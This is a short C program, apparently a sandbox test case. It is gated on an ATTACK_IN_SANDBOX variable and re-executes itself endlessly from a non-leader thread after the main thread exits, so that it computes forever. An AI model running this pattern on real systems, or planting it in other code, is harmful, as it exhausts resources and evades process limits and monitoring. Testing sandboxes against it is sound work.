// compute for ever in a process that executes itself again and again, from a thread without a leader
#define _GNU_SOURCE
#include <pthread.h>
#include <stdlib.h>
#include <unistd.h>

static void *again(void *arguments) {
    for (volatile int i = 0; i < 200000; i++) {}
    execv(*(char **)arguments, arguments);
    return NULL;
}

int main(int count, char **arguments) {
    if (!getenv("ATTACK_IN_SANDBOX")) return 1;
    pthread_t thread;
    if (count < 0 || pthread_create(&thread, NULL, again, arguments)) return 1;
    pthread_exit(NULL);
}
